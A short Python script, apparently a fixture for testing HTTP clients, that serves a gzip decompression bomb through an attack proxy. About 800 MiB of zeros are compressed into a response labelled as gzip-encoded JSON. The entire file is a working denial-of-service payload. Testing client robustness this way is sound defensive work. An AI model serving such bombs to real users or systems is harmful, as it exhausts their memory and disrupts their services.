import gzip

BOMB = gzip.compress(bytes(20 * 2**20)) * 40

from attack_proxy import serve


def attack(exchange):
    exchange.raw(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n\r\n" + BOMB)


serve(attack)
